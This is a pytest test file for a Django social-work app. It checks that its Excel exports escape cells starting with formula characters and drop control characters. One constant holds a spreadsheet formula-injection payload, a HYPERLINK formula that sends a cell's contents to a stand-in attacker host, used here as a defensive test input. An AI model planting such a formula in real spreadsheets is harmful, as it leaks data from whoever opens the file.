"""Spreadsheets the product writes: stored text never becomes a formula, and a legacy row with a
control character never breaks the export of a whole scope."""

from io import BytesIO

import pytest
from openpyxl import load_workbook

from shegong.agencies.models import Agency
from shegong.cases.tests.factories import CaseFactory, ClientFactory
from shegong.core.exports import safe_cell
from shegong.imports.models import ImportJob
from shegong.imports.reports import ErrorReport
from shegong.people.models import Person
from shegong.people.tests.factories import PersonFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"x")'


def load(content: bytes):
    return load_workbook(BytesIO(content)).active


def cells_of(sheet) -> list:
    """Every cell as stored: a formula cell has data_type "f"."""
    return [cell for row in sheet.iter_rows() for cell in row]


def assert_no_formulas(sheet) -> None:
    formulas = [cell.value for cell in cells_of(sheet) if cell.data_type == "f"]
    assert formulas == []


@pytest.mark.parametrize(
    "text", [HYPERLINK, "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1"]
)
def test_text_that_starts_a_formula_is_written_as_text(text):
    assert safe_cell(text) == "'" + text


def test_plain_values_are_unchanged():
    assert safe_cell("张三") == "张三"
    assert safe_cell(-3) == -3
    assert safe_cell(None) is None


def test_characters_the_format_refuses_are_dropped():
    assert safe_cell("张\x1b三\x0b\x07") == "张三"
    assert safe_cell("张\uffff三\ufffe\ud800") == "张三"
    assert safe_cell("第一行\n第二行") == "第一行\n第二行"
    assert safe_cell("\U0001f600\ufffd") == "\U0001f600\ufffd"


def legacy(model, pk, **values):
    """A row stored before the validators existed: written without full_clean."""
    model.objects.filter(pk=pk).update(**values)


def test_people_export_neutralises_formulas(client_for, world):
    for name in (HYPERLINK, "=1+1"):
        person = PersonFactory(community=world.home_community, owner_agency=world.agency_a)
        legacy(Person, person.pk, name=name)
    response = client_for("district_admin").get("/people/export.xlsx")
    assert response.status_code == 200
    sheet = load(response.content)
    assert_no_formulas(sheet)
    values = [cell.value for cell in cells_of(sheet)]
    assert "'" + HYPERLINK in values and "'=1+1" in values


@pytest.mark.parametrize("name", ["张\x1b三", "张\x0b三", "张\uffff三", "\ufffe张三"])
def test_people_export_survives_a_control_character(client_for, world, name):
    person = PersonFactory(community=world.home_community, owner_agency=world.agency_a)
    legacy(Person, person.pk, name=name)
    response = client_for("district_admin").get("/people/export.xlsx")
    assert response.status_code == 200
    assert "张三" in [cell.value for cell in cells_of(load(response.content))]


@pytest.mark.parametrize("url", ["/cases/export.xlsx", "/cases/my/export.xlsx"])
def test_case_exports_survive_a_client_name_with_a_control_character(client_for, world, url):
    case = CaseFactory(client=ClientFactory(name="王小明"))
    legacy(Person, case.client_id, name="王小\x07\uffff明")
    response = client_for("social_worker").get(url)
    assert response.status_code == 200
    assert "王小明" in [cell.value for cell in cells_of(load(response.content))]


def test_agency_export_survives_control_characters_and_formulas(client_for, world):
    legacy(Agency, world.agency_a.pk, name="中心\x1b\uffff", address="=1+1")
    response = client_for("district_admin").get("/agencies/export.xlsx")
    assert response.status_code == 200
    sheet = load(response.content)
    assert_no_formulas(sheet)
    values = [cell.value for cell in cells_of(sheet)]
    assert "中心" in values and "'=1+1" in values


def test_import_error_report_writes_a_masked_cell_as_text(world, tmp_path, settings):
    settings.MEDIA_ROOT = tmp_path
    report = ErrorReport({"name": "姓名"}, extra_headers=("姓名", "证件号码"))
    report.add(2, "name", "=1+1", extra=(HYPERLINK, "-3502****1234\x1b"))
    job = ImportJob(original_filename="a.xlsx", file_format="xlsx")
    report.save_to(job.error_report)
    with job.error_report.open("rb") as handle:
        sheet = load(handle.read())
    assert_no_formulas(sheet)
    values = [cell.value for cell in cells_of(sheet)]
    assert "'" + HYPERLINK in values and "'-3502****1234" in values
